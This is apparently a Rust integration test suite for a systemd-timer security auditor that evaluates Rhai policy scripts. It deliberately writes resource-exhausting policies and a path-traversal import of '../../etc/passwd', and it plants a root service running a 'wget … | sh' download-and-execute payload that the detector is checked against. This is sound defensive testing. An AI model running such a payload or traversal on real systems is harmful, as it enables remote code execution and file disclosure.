//! Policies end to end: the built-in pack's own cases, team policies, hostile scripts,
//! compile errors, configuration, exit codes and the report formats.

use std::process::Command;
use std::time::{Duration, Instant};

use serde_json::Value;
use timerguard::policy::{PolicySet, engine};

use crate::common::*;

fn run(fx: &Fx, args: &[&str]) -> (i32, String, String) {
    let o = fx.cli(args);
    (
        o.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&o.stdout).into_owned(),
        String::from_utf8_lossy(&o.stderr).into_owned(),
    )
}

#[test]
fn builtin_pack_is_complete_and_documented() {
    let set = PolicySet::load(true, &[], &engine::Limits::default(), &engine::Log::default()).unwrap();
    let mut files: Vec<String> = std::fs::read_dir("policies")
        .unwrap()
        .flatten()
        .filter_map(|e| e.file_name().to_str().and_then(|n| n.strip_suffix(".rhai")).map(String::from))
        .collect();
    files.sort();
    let ids: Vec<String> = set.policies.iter().map(|p| p.meta.id.clone()).collect();
    assert_eq!(ids, files, "every policies/*.rhai is compiled in (src/policy/builtin.rs) and named by its id");
    for p in &set.policies {
        assert!(
            !p.doc.is_empty() && !p.meta.remediation.is_empty() && !p.meta.mitigations.is_empty(),
            "{} lacks docs",
            p.meta.id
        );
        let cases: Value =
            serde_yaml::from_str(&std::fs::read_to_string(format!("policies/tests/{}.yaml", p.meta.id)).unwrap())
                .unwrap();
        let cases = cases["cases"].as_array().unwrap();
        let failing = cases.iter().filter(|c| c["expect"].as_array().is_some_and(|e| !e.is_empty())).count();
        assert!(failing >= 1 && cases.len() > failing, "{} needs a failing and a passing case", p.meta.id);
    }
    for fam in ["M1022", "M1018", "M1026"] {
        assert!(set.policies.iter().any(|p| p.meta.mitigations.iter().any(|m| m == fam)), "{fam}");
    }
}

#[test]
fn builtin_and_example_cases_pass() {
    if !is_root() {
        eprintln!("note: permission policies' cases are skipped without root");
    }
    let dir = std::path::PathBuf::from("examples/policies");
    let set =
        PolicySet::load(true, std::slice::from_ref(&dir), &engine::Limits::default(), &engine::Log::default()).unwrap();
    let mut out = Vec::new();
    let ok = timerguard::policy::testcase::run_all(&set, true, &[dir], &mut out).unwrap();
    let text = String::from_utf8(out).unwrap();
    assert!(ok, "{text}");
    let last = text.lines().last().unwrap();
    assert!(
        last.ends_with(if is_root() { "0 failed, 0 skipped" } else { "0 failed" }.split(", ").last().unwrap()),
        "{last}"
    );
    assert!(text.matches("\nok ").count() + usize::from(text.starts_with("ok ")) >= 50, "{text}");
}

fn hostile_dir() -> tempfile::TempDir {
    let d = tempfile::tempdir().unwrap();
    let header = |id: &str, name: &str| {
        format!(
            "const POLICY = #{{ id: \"{id}\", name: \"{name}\", title: \"t\", severity: \"high\", targets: [\"timer\"] }};\n"
        )
    };
    let w = |f: &str, s: String| std::fs::write(d.path().join(f), s).unwrap();
    w("a_loop.rhai", header("EVIL001", "endless-loop") + "fn check(t, ctx) {\n    loop { }\n}\n");
    w(
        "b_closure.rhai",
        header("EVIL002", "closure-loop") + "fn check(t, ctx) {\n    [1, 2].map(|x| { loop { } })\n}\n",
    );
    w(
        "c_recurse.rhai",
        header("EVIL003", "deep-recursion") + "fn f(n) { f(n + 1) }\nfn check(t, ctx) {\n    f(0)\n}\n",
    );
    w(
        "d_string.rhai",
        header("EVIL004", "huge-string") + "fn check(t, ctx) {\n    let s = \"xx\";\n    loop { s += s; }\n}\n",
    );
    w("e_write.rhai", header("EVIL005", "writes-facts") + "fn check(t, ctx) {\n    t.name = \"x\";\n}\n");
    w("f_type.rhai", header("EVIL006", "wrong-return") + "fn check(t, ctx) {\n    let a = 1;\n    a\n}\n");
    w("z_good.rhai", header("GOOD001", "every-timer") + "fn check(t, ctx) { violation(\"seen\", t.name) }\n");
    d
}

/// `check` with only the policies of `dir`: the exit code, each finding's rule and
/// message, and stderr.
fn rules_and_messages(fx: &Fx, dir: &std::path::Path) -> (i32, Vec<(String, String)>, String) {
    let (code, out, err) = run(fx, &["--no-builtin", "--policies", dir.to_str().unwrap(), "check", "--format", "json"]);
    let r: Value = serde_json::from_str(&out).unwrap();
    let f = r["findings"].as_array().unwrap().iter();
    (code, f.map(|f| (f["rule"].as_str().unwrap().into(), f["message"].as_str().unwrap().into())).collect(), err)
}

fn one_timer() -> Fx {
    let fx = Fx::new();
    fx.debian_layout().file("/etc/systemd/system/a.timer", &timer("daily"));
    fx
}

#[test]
fn hostile_policies_end_with_located_errors_and_others_still_report() {
    let d = hostile_dir();
    let fx = one_timer();
    let t = Instant::now();
    let (code, out, err) =
        run(&fx, &["--no-builtin", "--policies", d.path().to_str().unwrap(), "check", "--format", "json"]);
    assert!(t.elapsed() < Duration::from_secs(60), "bounded by the per-policy deadline");
    assert_eq!(code, 3, "{err}");
    let r: Value = serde_json::from_str(&out).unwrap();
    let errs: Vec<(String, u64)> = r["errors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| (e["policy"].as_str().unwrap().to_string(), e["line"].as_u64().unwrap()))
        .collect();
    assert_eq!(
        errs.iter().map(|e| e.0.as_str()).collect::<Vec<_>>(),
        ["EVIL001", "EVIL002", "EVIL003", "EVIL004", "EVIL005", "EVIL006"],
        "{err}"
    );
    assert!(err.contains("EVIL006") && err.contains("check must return violation"), "{err}");
    assert!(errs.iter().all(|e| e.1 > 0), "every error has a line: {errs:?}");
    assert!(err.contains("a_loop.rhai:2:1): Too many operations"), "limit errors point at fn check: {err}");
    assert!(err.contains("c_recurse.rhai:") && err.contains("Stack overflow"), "{err}");
    assert!(err.contains("Length of string too large"), "{err}");
    assert!(err.contains("No writable property 'name'"), "facts are read-only: {err}");
    let f = r["findings"].as_array().unwrap();
    assert_eq!(f.len(), 1);
    assert_eq!(f[0]["policy"], "GOOD001", "the good policy's findings are intact");
}

/// The finding builders (`.path`, `.line`, `.severity`, `.subject`, `.note`, `.fix`) give
/// a new finding and leave a finding kept in a variable as it was: a policy may build two
/// findings from one start. A second `.fix` adds to the first.
#[test]
fn finding_builders_leave_a_kept_finding_unchanged() {
    let fx = one_timer();
    let d = tempfile::tempdir().unwrap();
    let src = "const POLICY = #{ id: \"KEEP001\", name: \"keep\", title: \"t\", severity: \"low\", targets: [\"timer\"] };\n\
        fn check(t, ctx) {\n\
            let v = violation(\"base\", t.name);\n\
            let w = v.path(\"/etc/x\").line(3).severity(\"high\").subject(\"s\").note(\"why\")\n\
                .fix(quarantine(\"/etc/x\")).fix(quarantine(\"/etc/y\"));\n\
            v.severity(\"critical\");\n\
            [v, w]\n\
        }\n";
    std::fs::write(d.path().join("keep.rhai"), src).unwrap();
    let (_, out, err) =
        run(&fx, &["--no-builtin", "--policies", d.path().to_str().unwrap(), "check", "--format", "json"]);
    let r: Value = serde_json::from_str(&out).unwrap_or_else(|e| panic!("{e}: {out} {err}"));
    let f = r["findings"].as_array().unwrap();
    assert_eq!(f.len(), 2, "{out}");
    let kept = f.iter().find(|f| f["subject"] != "s").unwrap();
    let built = f.iter().find(|f| f["subject"] == "s").unwrap();
    assert_eq!((kept["severity"].as_str(), kept["line"].as_u64()), (Some("low"), None), "{kept}");
    assert_eq!(kept["path"], "/etc/systemd/system/a.timer", "{kept}");
    assert!(kept["fix"].is_null(), "{kept}");
    assert_eq!((built["path"].as_str(), built["line"].as_u64()), (Some("/etc/x"), Some(3)), "{built}");
    assert_eq!(built["severity"], "high");
    let fix = built["fix"].to_string();
    assert!(fix.contains("/etc/x") && fix.contains("/etc/y"), "both fixes kept: {fix}");
}

/// Closures run by built-ins are stopped by the wall clock even with no operation limit.
#[test]
fn deadline_stops_a_loop_inside_a_closure() {
    let d = hostile_dir();
    let limits =
        engine::Limits { max_operations: 0, deadline: Duration::from_millis(500), ..engine::Limits::default() };
    let log = engine::Log::default();
    let set = PolicySet::load(false, &[d.path().to_path_buf()], &limits, &log).unwrap();
    let host = std::sync::Arc::new(one_timer().collect());
    let p = set.get("EVIL002").unwrap();
    let t = Instant::now();
    let ev = timerguard::policy::evaluate(&set, &[p], &host, &|_| serde_json::json!({}), &limits);
    assert!(t.elapsed() < Duration::from_secs(5));
    assert_eq!(ev.errors.len(), 1);
    assert!(ev.errors[0].message.contains("deadline"), "{:?}", ev.errors[0]);
    assert_eq!((ev.errors[0].policy.as_str(), ev.errors[0].line), ("EVIL002", 3));
}

#[test]
fn eval_and_escaping_imports_are_refused() {
    let d = tempfile::tempdir().unwrap();
    std::fs::write(d.path().join("x.rhai"), "const POLICY = #{ id: \"BAD001\", name: \"b\", title: \"t\", severity: \"low\", targets: [\"timer\"] };\nfn check(t, ctx) { eval(\"1\") }\n").unwrap();
    let fx = one_timer();
    let (code, _, err) = run(&fx, &["--no-builtin", "--policies", d.path().to_str().unwrap(), "check"]);
    assert_eq!(code, 2, "eval is not even parsed: {err}");
    assert!(err.contains("x.rhai:2:"), "{err}");
    std::fs::write(d.path().join("x.rhai"), "import \"../../etc/passwd\" as p;\nconst POLICY = #{ id: \"BAD001\", name: \"b\", title: \"t\", severity: \"low\", targets: [\"timer\"] };\nfn check(t, ctx) { () }\n").unwrap();
    let (code, _, err) = run(&fx, &["--no-builtin", "--policies", d.path().to_str().unwrap(), "check"]);
    assert_eq!(code, 3, "{err}");
    assert!(err.contains("x.rhai:1:8): Module not found: ../../etc/passwd"), "{err}");
    // A module inside the directory that is a symlink out of it is refused, not read;
    // a real module file there is imported.
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("_lib.rhai"), "export const MARK = \"outside\";\n").unwrap();
    std::os::unix::fs::symlink(outside.path().join("_lib.rhai"), d.path().join("_lib.rhai")).unwrap();
    let header =
        "const POLICY = #{ id: \"BAD001\", name: \"b\", title: \"t\", severity: \"low\", targets: [\"timer\"] };\n";
    std::fs::write(d.path().join("x.rhai"), format!("import \"_lib\" as l;\n{header}fn check(t, ctx) {{ () }}\n"))
        .unwrap();
    let (code, _, err) = run(&fx, &["--no-builtin", "--policies", d.path().to_str().unwrap(), "check"]);
    assert_eq!(code, 3, "{err}");
    assert!(err.contains("import _lib (") && err.contains("a symlink"), "{err}");
    std::fs::remove_file(d.path().join("_lib.rhai")).unwrap();
    std::fs::write(d.path().join("_lib.rhai"), "export const MARK = \"inside\";\n").unwrap();
    std::fs::write(
        d.path().join("x.rhai"),
        format!("import \"_lib\" as l;\n{header}fn check(t, ctx) {{ if l::MARK == \"inside\" {{ violation(\"r\", l::MARK) }} }}\n"),
    )
    .unwrap();
    let (code, out, err) = run(&fx, &["--no-builtin", "--policies", d.path().to_str().unwrap(), "check"]);
    assert_eq!(code, 0, "a low finding from the imported constant: {out}{err}");
    assert!(out.contains("inside"), "{out}");
}

#[test]
fn compile_errors_and_bad_headers_exit_2_with_location() {
    let d = tempfile::tempdir().unwrap();
    let fx = one_timer();
    let cases = [
        (
            "const POLICY = #{ id: \"X001\", name: \"x\", title: \"t\", severity: \"high\", targets: [\"timer\"] };\nfn check(t, ctx) {\n  let = 3;\n}\n",
            "x.rhai:3:",
        ),
        (
            "const POLICY = #{ id: \"XX001\", name: \"x\", title: \"t\", severity: \"urgent\", targets: [\"timer\"] };\nfn check(t, ctx) { () }\n",
            "unknown variant `urgent`",
        ),
        (
            "const POLICY = #{ id: \"XX001\", name: \"x\", title: \"t\", severity: \"high\", targets: [\"timers\"] };\nfn check(t, ctx) { () }\n",
            "unknown target \"timers\"",
        ),
        ("let p = 1;\nfn check(t, ctx) { () }\n", "no literal `const POLICY"),
        (
            "const POLICY = #{ id: \"TG101\", name: \"x\", title: \"t\", severity: \"high\", targets: [\"timer\"] };\nfn check(t, ctx) { () }\n",
            "id TG101 is already used",
        ),
        // Pre-filters: a key the target's subjects do not carry, a misspelt key, a bad path list.
        (
            "const POLICY = #{ id: \"XX001\", name: \"x\", title: \"t\", severity: \"high\", targets: [\"unit\"], filter: #{ injected: true } };\nfn check(u, ctx) { () }\n",
            "filter key \"injected\" does not apply to every target (unit)",
        ),
        (
            "const POLICY = #{ id: \"XX001\", name: \"x\", title: \"t\", severity: \"high\", targets: [\"timer\"], filter: #{ injectd: true } };\nfn check(t, ctx) { () }\n",
            "unknown field `injectd`",
        ),
        (
            "const POLICY = #{ id: \"XX001\", name: \"x\", title: \"t\", severity: \"high\", targets: [\"path\"], filter: #{ path: 3 } };\nfn check(p, ctx) { () }\n",
            "filter path must be a list of paths",
        ),
    ];
    for (src, want) in cases {
        std::fs::write(d.path().join("x.rhai"), src).unwrap();
        let (code, _, err) = run(&fx, &["--policies", d.path().to_str().unwrap(), "check"]);
        assert_eq!(code, 2, "{err}");
        assert!(err.contains(want), "want {want:?} in {err}");
    }
}

#[test]
fn check_reports_and_exit_codes() {
    let fx = planted();
    let (code, out, _) = run(&fx, &["check"]);
    assert_eq!(code, 1, "critical and high findings fail the default gate");
    insta::assert_snapshot!("check_text", out);
    let (code, out, _) = run(&fx, &["check", "--format", "json"]);
    assert_eq!(code, 1, "same exit code for every format");
    let mut r: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(r["schema"], "timerguard.check/v1");
    r["policies"] = Value::Null; // the list of policies is checked elsewhere
    let root = fx.path().display().to_string();
    assert_eq!(r["hosts"][0]["root"], root.as_str(), "an image without /etc/hostname is named by its root");
    assert_eq!(r["hosts"][0]["name"], root.as_str());
    assert_eq!(r["hosts"][0]["summary"], r["summary"], "one host: its summary is the report's");
    r["hosts"][0]["root"] = "ROOT".into();
    r["hosts"][0]["name"] = "ROOT".into();
    insta::assert_json_snapshot!("check_json", r);
    assert_eq!(run(&fx, &["check", "--fail-on", "critical", "--ignore", "TG303"]).0, 0);
    assert_eq!(run(&fx, &["check", "--select", "M1018"]).0, 0, "only a medium linger finding remains");
    let (_, out, _) = run(&fx, &["check", "--select", "M1018", "--fail-on", "medium", "--format", "json"]);
    let r: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(r["findings"].as_array().unwrap().len(), 1);
}

#[test]
fn config_waivers_params_severity_and_errors() {
    let fx = planted();
    let cfg = fx.path().join("tg.yaml");
    let write = |s: &str| std::fs::write(&cfg, s).unwrap();
    let c = cfg.to_str().unwrap();
    write(
        "severity: { TG102: low }\nwaivers:\n  - { policy: TG303, subject: beacon.*, reason: incident 42 under analysis, expires: 2999-01-01 }\nparams:\n  TG201: { allowed: [alice] }\n",
    );
    let (code, out, err) = run(&fx, &["--config", c, "check"]);
    assert_eq!(code, 0, "{out}{err}");
    assert!(out.contains("WAIVED (1)") && out.contains("incident 42"), "{out}");
    write("waivers:\n  - { policy: TG303, subject: beacon.timer, reason: old, expires: 2020-01-01 }\n");
    let (code, out, _) = run(&fx, &["--config", c, "check"]);
    assert_eq!(code, 1);
    assert!(out.contains("waiver expired on 2020-01-01 (old): active again"), "{out}");
    for (bad, want) in [
        ("selct: [TG1]\n", "tg.yaml:1:1: unknown field `selct`"),
        (
            "waivers:\n  - { policy: TG303, subject: x, expires: 2999-01-01 }\n",
            "tg.yaml:2:5: waivers[0]: missing field `reason`",
        ),
        (
            "waivers:\n  - { policy: TG303, subject: x, reason: \" \", expires: 2999-01-01 }\n",
            "waivers[0]: a waiver needs a reason",
        ),
        ("waivers:\n  - { policy: TG303, subject: x, reason: r, expires: next week }\n", "not a YYYY-MM-DD date"),
        ("params:\n  TG201: { allowd: [x] }\n", "TG201 has no parameter \"allowd\""),
        ("severity: { TG999: low }\n", "no policy \"TG999\""),
        ("fail_on: severe\n", "tg.yaml:1:10"),
    ] {
        write(bad);
        let (code, _, err) = run(&fx, &["--config", c, "check"]);
        assert_eq!(code, 2, "{bad}");
        assert!(err.contains(want), "want {want:?} in {err}");
    }
}

#[test]
fn explain_policies_and_init() {
    let fx = one_timer();
    let (code, out, _) = run(&fx, &["explain", "TG201"]);
    assert_eq!(code, 0);
    assert!(out.contains("TG201 linger-not-allowed") && out.contains("allowed: []") && out.contains("polkit"), "{out}");
    let (_, out, _) = run(&fx, &["policies"]);
    assert_eq!(out.lines().count(), timerguard::policy::builtin_ids().len());
    let (_, out, _) = run(&fx, &["init"]);
    let cfg = fx.path().join("init.yaml");
    std::fs::write(&cfg, out).unwrap();
    assert_eq!(run(&fx, &["--config", cfg.to_str().unwrap(), "check"]).0, 0, "the default config is valid");
    assert_eq!(run(&fx, &["explain", "TG999"]).0, 2);
    // Ids in any case, and names.
    for q in ["tg201", "Tg201", "linger-not-allowed"] {
        let (code, out, _) = run(&fx, &["explain", q]);
        assert_eq!(code, 0, "{q}");
        assert!(out.starts_with("TG201 linger-not-allowed"), "{q}: {out}");
    }
}

/// `init` is generated from the policies' metadata, and examples/timerguard.yaml is that
/// output: every commented example — ids, names, parameters and their defaults — names
/// something that exists, proved by uncommenting all of them and validating the result.
#[test]
fn init_and_the_example_config_name_only_what_exists() {
    let fx = one_timer();
    let (code, out, _) = run(&fx, &["init"]);
    assert_eq!(code, 0);
    let example = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/examples/timerguard.yaml")).unwrap();
    assert_eq!(out, example, "examples/timerguard.yaml is `timerguard init` (regenerate it)");
    let mut filled = String::new();
    let mut section = "";
    for l in out.lines() {
        if let Some((k, _)) = l.split_once(':').filter(|_| !l.starts_with('#') && !l.starts_with(' ')) {
            section = if ["severity", "params", "unsafe_fixes", "waivers"].contains(&k) { k } else { "" };
            filled.push_str(&format!("{k}:\n"));
            continue;
        }
        match l.strip_prefix("#  ") {
            Some(rest) if !section.is_empty() => filled.push_str(&format!("  {rest}\n")),
            _ => {}
        }
    }
    let cfg = fx.path().join("filled.yaml");
    std::fs::write(&cfg, &filled).unwrap();
    let (code, _, err) = run(&fx, &["--config", cfg.to_str().unwrap(), "check", "--fail-on", "critical"]);
    assert!(code == 0 || code == 1, "every example id and parameter exists: {err}\n{filled}");
    assert!(filled.contains("TG301:") && filled.contains("vendor_approved: true"), "{filled}");
    let params: usize = timerguard::policy::PolicySet::load(true, &[], &Default::default(), &Default::default())
        .unwrap()
        .policies
        .iter()
        .map(|p| p.meta.params.len())
        .sum();
    assert_eq!(filled.matches("\n    ").count() - 3, params, "every parameter of every policy is listed:\n{filled}");
}

/// Planted in a real Debian root, one case of each family is found with the right id and
/// nothing else is flagged; the stock root has no high or critical finding.
#[test]
fn debian_root_stock_is_clean_and_planted_cases_are_found() {
    let Ok(root) = std::env::var("TIMERGUARD_DEBIAN_ROOT") else {
        skip("TIMERGUARD_DEBIAN_ROOT not set");
        return;
    };
    let tg = |r: &str, args: &[&str]| {
        let o = Command::new(env!("CARGO_BIN_EXE_timerguard")).args(["--root", r]).args(args).output().unwrap();
        (o.status.code().unwrap(), String::from_utf8_lossy(&o.stdout).into_owned())
    };
    let (code, out) = tg(&root, &["check", "--format", "json", "--fail-on", "high"]);
    assert_eq!(code, 0, "stock Debian passes the default gate: {out}");
    let r: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(r["summary"]["by_severity"]["high"], Value::Null);
    assert_eq!(r["summary"]["by_severity"]["critical"], Value::Null);
    assert_eq!(r["summary"]["active"], 0, "in fact no finding at all: {out}");
    if !is_root() {
        return; // copying the root keeps owners only as root
    }
    let copy = tempfile::tempdir().unwrap();
    let st = Command::new("cp").args(["-a", &format!("{root}/."), copy.path().to_str().unwrap()]).status().unwrap();
    assert!(st.success());
    let r2 = copy.path().to_str().unwrap().to_string();
    let p = |rel: &str| copy.path().join(rel.trim_start_matches('/'));
    let put = |rel: &str, s: &str| {
        std::fs::create_dir_all(p(rel).parent().unwrap()).unwrap();
        std::fs::write(p(rel), s).unwrap();
    };
    // M1022: a world-writable system unit file.
    put("/etc/systemd/system/cleanup.timer", "[Timer]\nOnCalendar=daily\n[Install]\nWantedBy=timers.target\n");
    put("/etc/systemd/system/cleanup.service", "[Service]\nExecStart=/usr/bin/true\n");
    std::fs::set_permissions(
        p("/etc/systemd/system/cleanup.timer"),
        std::os::unix::fs::PermissionsExt::from_mode(0o666),
    )
    .unwrap();
    std::os::unix::fs::symlink("../cleanup.timer", p("/etc/systemd/system/timers.target.wants/cleanup.timer")).unwrap();
    // M1018: a system account lingering.
    put("/var/lib/systemd/linger/man", "");
    // M1026: a root timer with a download-and-execute payload from /tmp.
    put("/etc/systemd/system/sys-update.timer", "[Timer]\nOnCalendar=hourly\n");
    put(
        "/etc/systemd/system/sys-update.service",
        "[Service]\nExecStart=/bin/sh -c 'wget -qO- http://198.51.100.7/x | sh'\n",
    );
    std::os::unix::fs::symlink("../sys-update.timer", p("/etc/systemd/system/timers.target.wants/sys-update.timer"))
        .unwrap();
    // Hygiene: a timer for a missing service.
    put("/etc/systemd/system/orphan.timer", "[Timer]\nOnCalendar=weekly\n");
    let (code, out) = tg(&r2, &["check", "--format", "json"]);
    assert_eq!(code, 1);
    let r: Value = serde_json::from_str(&out).unwrap();
    let mut got = policy_rule_subject(&r);
    got.sort();
    let want: Vec<(String, String, String)> = [
        ("TG102", "writable", "/etc/systemd/system/cleanup.timer"),
        ("TG201", "system-account", "/var/lib/systemd/linger/man"),
        ("TG303", "download-and-execute", "sys-update.timer"),
        // Linked into timers.target.wants by hand, without an [Install] that says so.
        ("TG310", "timer-injected", "sys-update.timer"),
        ("TG401", "missing-unit", "orphan.timer"),
    ]
    .iter()
    .map(|(a, b, c)| (a.to_string(), b.to_string(), c.to_string()))
    .collect();
    assert_eq!(got, want);
}

#[test]
fn print_and_debug_go_to_the_log_on_stderr() {
    let d = tempfile::tempdir().unwrap();
    std::fs::write(
        d.path().join("p.rhai"),
        "const POLICY = #{ id: \"LOG001\", name: \"talks\", title: \"t\", severity: \"low\", targets: [\"timer\"] };\nfn check(t, ctx) {\n    print(`looking at ${t.name}`);\n    debug(t.runs_as.user);\n}\n",
    )
    .unwrap();
    let (code, out, err) = run(&one_timer(), &["--no-builtin", "--policies", d.path().to_str().unwrap(), "check"]);
    assert_eq!(code, 0);
    assert!(err.contains("print [LOG001] looking at a.timer"), "{err}");
    assert!(err.contains("debug [LOG001] \"root\""), "{err}");
    assert!(!out.contains("looking at"), "policies never print to the report");
}

/// One notion of "runs as" (S41): the `+` and `!` prefixes run a command as root whatever
/// `User=` says; `list`, the facts and every policy give the same answer for one unit.
#[test]
fn runs_as_is_one_answer_in_list_facts_and_policies() {
    let fx = Fx::new();
    fx.debian_layout()
        .file("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nman:x:6:12:man:/var/cache/man:/usr/sbin/nologin\n")
        .file("/usr/lib/systemd/system/mandb.timer", "[Timer]\nOnCalendar=daily\n[Install]\nWantedBy=timers.target\n")
        .file(
            "/usr/lib/systemd/system/mandb.service",
            "[Service]\nUser=man\nExecStart=+/usr/bin/install -d /var/cache/man\nExecStart=/usr/bin/mandb\n",
        )
        .link("/etc/systemd/system/timers.target.wants/mandb.timer", "/usr/lib/systemd/system/mandb.timer")
        .file("/etc/systemd/system/plain.timer", &timer("daily"))
        .file("/etc/systemd/system/plain.service", "[Service]\nUser=man\nExecStart=/usr/bin/mandb\n")
        .link("/etc/systemd/system/timers.target.wants/plain.timer", "../plain.timer")
        .file("/etc/tg.yaml", "params:\n  TG301: { approved: [other.timer], vendor_approved: false }\n");
    let list: Value = serde_json::from_slice(&fx.cli(&["list", "--format", "json"]).stdout).unwrap();
    let row = |n: &str| list["timers"].as_array().unwrap().iter().find(|r| r["timer"] == n).unwrap().clone();
    assert_eq!(
        (row("mandb.timer")["runs_as"].as_str(), row("mandb.timer")["privileged"].as_bool()),
        (Some("man (ExecStart as root)"), Some(true))
    );
    assert_eq!(
        (row("plain.timer")["runs_as"].as_str(), row("plain.timer")["privileged"].as_bool()),
        (Some("man"), Some(false))
    );
    let facts: Value = serde_json::from_slice(&fx.cli(&["facts"]).stdout).unwrap();
    let t =
        facts["scopes"][0]["timers"].as_array().unwrap().iter().find(|t| t["name"] == "mandb.timer").unwrap().clone();
    assert_eq!(t["runs_as"]["privileged"], true);
    assert_eq!(t["runs_as"]["user_is_root"], false);
    assert_eq!(t["runs_as"]["elevated"], serde_json::json!(["ExecStart"]));
    let cfg = fx.host_path("/etc/tg.yaml").display().to_string();
    let o = fx.cli(&["--config", &cfg, "check", "--select", "TG301", "--format", "json"]);
    let r: Value = serde_json::from_slice(&o.stdout).unwrap();
    let subjects: Vec<&str> =
        r["findings"].as_array().unwrap().iter().map(|f| f["subject"].as_str().unwrap()).collect();
    assert_eq!(subjects, ["mandb.timer"], "TG301 agrees with list: only the elevated one runs as root");
    assert!(r["findings"][0]["message"].as_str().unwrap().contains("man (ExecStart as root)"));
}

/// `starts_with_any` answers as the Rhai loop it replaces, for each list and name, and a
/// list with a non-string item is an error naming it, not a silent `false`.
#[test]
fn starts_with_any_answers_as_the_loop_and_refuses_a_non_string() {
    let d = tempfile::tempdir().unwrap();
    std::fs::write(
        d.path().join("p.rhai"),
        r#"const POLICY = #{ id: "SWA001", name: "prefixes", title: "t", severity: "low", targets: ["timer"] };
fn check(t, ctx) {
    let lists = [[], [""], ["a"], ["a.timer"], ["a.timer.x"], ["b", "c", "a."], ["B", "A"], ["ä"]];
    let seen = [];
    for l in lists {
        let want = false;
        for p in l { if t.name.starts_with(p) { want = true; } }
        if t.name.starts_with_any(l) != want { return violation("differs", `${l}`); }
        seen.push(want);
    }
    if t.name == "a.timer" { return violation("answers", `${seen}`); }
    starts_with_any(t.name, ["a", 1])
}
"#,
    )
    .unwrap();
    let fx = one_timer();
    fx.file("/etc/systemd/system/b.timer", &timer("daily"));
    let (code, findings, err) = rules_and_messages(&fx, d.path());
    let f: Vec<(&str, &str)> = findings.iter().map(|(r, m)| (r.as_str(), m.as_str())).collect();
    assert_eq!(f, [("answers", "[false, true, true, true, false, true, false, false]")], "{err}");
    assert_eq!(code, 3, "the second timer's bad list is a policy error: {err}");
    assert!(err.contains("starts_with_any: item 1 is i64, not a string"), "{err}");
}

/// Parameters and settings read with `.name` (answered by getters made for the names the
/// policies use) answer as `["name"]` (the indexer) does: set, unset and unknown names,
/// and a parameter another policy declares is still unknown to a policy that does not.
#[test]
fn params_and_settings_read_by_name_answer_as_by_index() {
    let d = tempfile::tempdir().unwrap();
    std::fs::write(
        d.path().join("a.rhai"),
        r#"const POLICY = #{ id: "GET001", name: "by-name", title: "t", severity: "low", targets: ["unit"],
    params: #{ names: ["a.timer", "b.timer"], allowd: 1, Timer: "p" } };
fn check(u, ctx) {
    if u.name != "a.timer" { return (); }
    let s = u.settings;
    let pairs = [
        [ctx.params.names, ctx.params["names"]], [ctx.params.allowd, ctx.params["allowd"]],
        [ctx.params.Timer, ctx.params["Timer"]], [s.Unit, s["Unit"]], [s.Socket, s["Socket"]],
        [s.Timer.OnCalendar, s["Timer"]["OnCalendar"]], [s.Timer.Persistent, s["Timer"]["Persistent"]],
        [s.Unit.Description, s["Unit"]["Description"]], [s.Install.WantedBy, s["Install"]["WantedBy"]],
    ];
    let seen = [];
    for p in pairs { if `${p[0]}` != `${p[1]}` || type_of(p[0]) != type_of(p[1]) { return violation("differs", `${p}`); } seen.push(type_of(p[0])); }
    violation("answers", `${seen} ${s.Timer.OnCalendar[0].value}`)
}
"#,
    )
    .unwrap();
    std::fs::write(
        d.path().join("b.rhai"),
        r#"const POLICY = #{ id: "GET002", name: "undeclared", title: "t", severity: "low", targets: ["timer"], params: #{ names: [] } };
fn check(t, ctx) {
    if ctx.params.allowd == () { return (); }
}
"#,
    )
    .unwrap();
    let fx = one_timer();
    fx.file(
        "/etc/systemd/system/a.timer",
        "[Unit]\nDescription=A\n[Timer]\nOnCalendar=daily\n[Install]\nWantedBy=timers.target\n",
    );
    let (code, findings, err) = rules_and_messages(&fx, d.path());
    let f: Vec<(&str, &str)> = findings.iter().map(|(r, m)| (r.as_str(), m.as_str())).collect();
    let types = "[\"array\", \"i64\", \"string\", \"Section\", \"()\", \"array\", \"()\", \"array\", \"array\"]";
    assert_eq!(f, [("answers", format!("{types} daily").as_str())], "{err}");
    assert_eq!(code, 3, "GET002 reads a parameter it does not declare: {err}");
    assert!(
        err.contains("b.rhai:3:") && err.contains("GET002 declares no parameter 'allowd' (params: names)"),
        "{err}"
    );
}
